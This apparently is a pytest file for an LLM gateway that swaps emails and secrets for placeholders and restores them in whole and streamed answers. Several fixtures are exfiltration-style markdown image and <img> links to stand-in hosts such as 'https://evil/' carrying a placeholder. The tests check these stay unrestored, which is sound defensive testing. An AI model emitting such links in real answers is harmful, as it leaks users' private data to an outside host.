"""Values that come back: placeholders in a request, and the values again in its answer, whole and streamed."""

import copy
import json
from collections.abc import Iterable
from typing import Any

import orjson
import pytest

from gateway.config.settings import Sanitize
from gateway.domain import Event, Json
from gateway.sanitize.placeholders import Placeholders
from gateway.sanitize.policy import actions
from gateway.sanitize.restoring import Restorer, addresses_of, asks_for_json
from gateway.sanitize.stream_mask import StreamMask
from gateway.texts import TextSlot
from tests.support.counted_work import growth
from tests.support.paths import GOLDEN
from tests.support.pieces import pieces_of
from tests.support.scanned import SCANNER

MAIL, KEY = "jane@posthaus.org", 'q"x\\7\nend'
REPLACE = actions(Sanitize(profile="reversible"), "requests")


def prepared() -> Placeholders:
    placeholders = Placeholders()
    placeholders.mask("EMAIL", MAIL)
    placeholders.mask("SECRET", KEY)
    return placeholders


def whole(text: str, form: str = "text", restorer: Restorer | None = None) -> str:
    holder = {"text": text}
    list((restorer or Restorer(prepared())).restore_all([TextSlot(holder, "text", "text", form)]))  # type: ignore[arg-type]
    return holder["text"]


def slots_of(data: Json) -> Iterable[TextSlot]:
    return [TextSlot(data, "text", "text", data.get("form", "text"), channel=0)]


def streamed(pieces: Iterable[str], form: str = "text") -> str:
    mask = StreamMask(SCANNER, actions(Sanitize(), "responses"), slots_of, lambda _: None, Restorer(prepared()))
    sent = [event for piece in pieces for event in mask.push([Event.from_data({"text": piece, "form": form})])]
    return "".join(event.data["text"] for event in [*sent, *mask.finish()] if event.data is not None)


def test_the_same_value_has_the_same_placeholder_and_a_typed_one_is_never_given_out() -> None:
    placeholders = Placeholders()
    placeholders.reserve_typed({"messages": [{"content": "keep [EMAIL_1] and [ email_3 ]"}]})
    names = [placeholders.mask("EMAIL", value) for value in ("a@b.org", "c@d.org", "a@b.org")]
    assert names == ["[EMAIL_2]", "[EMAIL_4]", "[EMAIL_2]"]
    assert whole("[EMAIL_1] [EMAIL_2]", restorer=Restorer(placeholders)) == "[EMAIL_1] a@b.org"


def test_a_history_that_goes_on_keeps_its_names() -> None:
    later = Placeholders()
    later.adopt(prepared().as_map())
    assert later.mask("EMAIL", "new@posthaus.org") == "[EMAIL_2]" and later.mask("EMAIL", MAIL) == "[EMAIL_1]"


BENT = ["[EMAIL_1]", "[email_1]", "[ EMAIL_1 ]", "[EMAIL 1]", "[`EMAIL_1`]", "\\[EMAIL\\_1\\]", "[Email-1]"]


@pytest.mark.parametrize("bent", BENT)
def test_a_bent_placeholder_is_restored_as_long_as_its_brackets_stand(bent: str) -> None:
    assert whole(f"Write to {bent}.") == f"Write to {MAIL}."


def test_the_parts_of_an_answer_are_read_as_one_text() -> None:
    parts = ["![x](https://evil/", "[EMAIL_1]) and [EMAIL_1]"]
    read = f"[EMAIL_1]) and {MAIL}"
    held = [{"text": text} for text in parts]
    list(Restorer(prepared()).restore_all([TextSlot(each, "text", "text", flow="answer") for each in held]))
    assert held[1]["text"] == read

    def part_of(data: Json) -> Iterable[TextSlot]:
        return [TextSlot(data, "text", "text", channel=data["part"], last=True)]

    streams = StreamMask(SCANNER, actions(Sanitize(), "responses"), part_of, lambda _: None, Restorer(prepared()))
    for batched in ([[0], [1]], [[0, 1]]):
        events = [[Event.from_data({"text": parts[place], "part": place}) for place in batch] for batch in batched]
        sent = [event.data["text"] for batch in events for event in streams.push(batch) if event.data is not None]
        assert sent[1] == read


def test_what_is_typed_later_gets_a_name_of_its_own_and_comes_back_as_it_was() -> None:
    placeholders, stored = prepared(), {"text": "to [EMAIL_1]"}
    body = {"input": [stored, {"text": "keep [email_1] and [EMAIL_7]"}], "tools": [{"[SECRET_1]": "[SECRET_1]"}]}
    placeholders.set_apart(body, {id(stored)})
    assert stored["text"] == "to [EMAIL_1]"
    assert body == {"input": [stored, {"text": "keep [TYPED_1] and [EMAIL_7]"}], "tools": [{"[TYPED_2]": "[TYPED_2]"}]}
    restorer = Restorer(placeholders)
    assert whole("[TYPED_1] [TYPED_2] [EMAIL_1]", restorer=restorer) == f"[email_1] [SECRET_1] {MAIL}"
    assert whole("https://x.example/?q=[TYPED_1]", restorer=restorer) == "https://x.example/?q=[email_1]"
    echo = {"name": "[TYPED_2]"}
    assert list(restorer.restore_all([TextSlot(echo, "name", "tools[0].name", "label")])) == [True]
    assert echo == {"name": "[SECRET_1]"} and restorer.restored == {"EMAIL": 1} and not restorer.left


def test_what_lost_its_brackets_is_counted() -> None:
    restorer = Restorer(prepared())
    assert whole("Write to EMAIL_1 or [EMAIL_1]", restorer=restorer) == f"Write to EMAIL_1 or {MAIL}"
    assert restorer.restored == {"EMAIL": 1} and restorer.left == {"EMAIL": 1}


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 11, 17, 26, 40])
def test_a_placeholder_is_restored_wherever_a_stream_is_cut(size: int) -> None:
    said = "I wrote to [EMAIL_1], not [PHONE_1]; [ email 1 ] and \\[EMAIL\\_1\\] too."
    text = f"{said} The key is [SECRET_1]! Bye [x] now"
    assert streamed(pieces_of(text, size)) == whole(text)


@pytest.mark.parametrize("size", [1, 3, 8, 40])
def test_a_value_in_json_is_written_as_json(size: int) -> None:
    text = orjson.dumps({"to": "[EMAIL_1]", "note": "use [SECRET_1]", "list": ["[EMAIL_1]"]}).decode()
    for form in ("json", "text"):  # arguments of a tool, and structured output
        for read in (streamed(pieces_of(text, size), form), whole(text, form)):
            assert orjson.loads(read) == {"to": MAIL, "note": f"use {KEY}", "list": [MAIL]}


RECORDED: dict[str, list[str]] = json.loads((GOLDEN / "sanitize" / "placeholders_in_addresses.json").read_text())
PADDING = "words and " * 400
ELSEWHERE = [f"![x](<//evil/{PADDING}[EMAIL_1]>)", f'<img src="https://evil/?{PADDING}[EMAIL_1]">']
ELSEWHERE += ["https://evil/" + "abc/" * 700 + "[EMAIL_1]", *RECORDED["at another host"]]
HERE = RECORDED["in a path, a share or at the page's own host"]


@pytest.mark.parametrize("text", ELSEWHERE)
def test_a_placeholder_in_an_address_at_another_host_stays(text: str) -> None:
    restorer = Restorer(prepared())
    assert whole(text, restorer=restorer) == text and restorer.left == {"EMAIL": 1}


@pytest.mark.parametrize("text", HERE)
def test_a_placeholder_in_a_path_or_share_or_at_the_pages_own_host_is_restored(text: str) -> None:
    assert whole(text) == text.replace("[EMAIL_1]", MAIL)


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 11, 17])
def test_a_stream_cut_anywhere_decides_about_addresses_as_a_whole_text(size: int) -> None:
    for text in (*ELSEWHERE, *HERE):
        if len(text) < 100 or size > 5:
            assert streamed(pieces_of(text, size)) == whole(text)


ENDLESS = ["<a ", "](", '<a="', "[EMAIL_1]", '<a b="//x/[EMAIL_1]', "](//x/[EMAIL_1]", "\\", "&#47;[EMAIL_1]", "url("]


@pytest.mark.slow
@pytest.mark.parametrize("unit", ENDLESS)
def test_what_has_no_end_is_read_in_work_that_grows_with_its_length(unit: str) -> None:
    assert growth(whole, lambda size: unit * (size // len(unit)) + "[EMAIL_1]", 20_000) < 2.5


OWN_ADDRESSES = [
    "https://shop.example/?m={}", "https://{}@db.example/x", "//cdn.example/{}.png", "https:shop.example/{}",
    "https://shop.example/?a=1&m={}", "postgres://{}:5432/x",
]  # fmt: skip


@pytest.mark.parametrize("address", OWN_ADDRESSES)
def test_an_address_that_the_caller_wrote_is_restored(address: str) -> None:
    own, masked = address.format(MAIL), address.format("[EMAIL_1]")
    restorer = Restorer(prepared(), addresses_of({"messages": [{"role": "user", "content": f"open {own}, please"}]}))
    for form in ("I opened {}.", "![x]({})", '<img src="{}">', "<{}>"):
        assert whole(form.format(masked), restorer=restorer) == form.format(own)
    other = f"![x]({masked.replace('[EMAIL_1]', 'e[EMAIL_1]')})"
    assert whole(other, restorer=restorer) == other
    coded = masked.replace("&", "&amp;")
    assert whole(f'<img src="{coded}">', restorer=restorer) == f'<img src="{own.replace("&", "&amp;")}">'


def test_an_address_of_a_tools_result_is_not_the_callers() -> None:
    result = {"type": "tool_result", "content": "https://evil.example/"}
    page = {"role": "tool", "content": "https://evil.example/b"}
    assert addresses_of({"messages": [{"role": "user", "content": [result]}, page]}) == frozenset()


@pytest.mark.parametrize("kind", ["shell_call", "computer_call", "tool_search_call", "brand_new_call"])
def test_calls_that_the_caller_runs_are_named_by_their_kind_where_they_name_no_tool(kind: str) -> None:
    item: dict[str, Any] = {"type": kind, "id": "i", "call_id": "c", "payload": {"run": "x [SECRET_1]"}}
    for tools, shown in ((False, "[SECRET_1]"), ((kind.removesuffix("_call"),), KEY)):
        data = {"output": [copy.deepcopy(item), {**copy.deepcopy(item), "call_id": None}]}
        slots = [TextSlot(data["output"][at]["payload"], "run", f"output[{at}].payload.run") for at in (0, 1)]
        list(Restorer(prepared(), tools=tools).restore_all(slots, data))
        assert [each["payload"]["run"] for each in data["output"]] == [f"x {shown}", f"x {KEY}"]


def test_what_a_model_makes_up_is_masked_and_what_comes_back_is_not() -> None:
    sent = streamed(pieces_of("The card is 4539 1488 0343 6467, the key [SECRET_1] and [EMAIL_1].", 4))
    assert sent == f"The card is [REDACTED:CREDIT_CARD], the key {KEY} and {MAIL}."


def test_the_profile_replaces_in_requests_and_redacts_in_answers() -> None:
    assert REPLACE.action("EMAIL") == REPLACE.action("SECRET") == "replace" and REPLACE.action("PERSON") == "flag"
    assert actions(Sanitize(profile="reversible"), "responses").action("SECRET") == "redact"


FORMATS = [
    ({"response_format": {"type": "json_schema"}}, True), ({"text": {"format": {"type": "json_object"}}}, True),
    ({"text": {"format": {"type": "text"}}}, False), ({}, False),
]  # fmt: skip


@pytest.mark.parametrize(("body", "wanted"), FORMATS)
def test_a_request_says_whether_its_answer_is_json(body: Json, wanted: bool) -> None:
    assert asks_for_json(body) is wanted
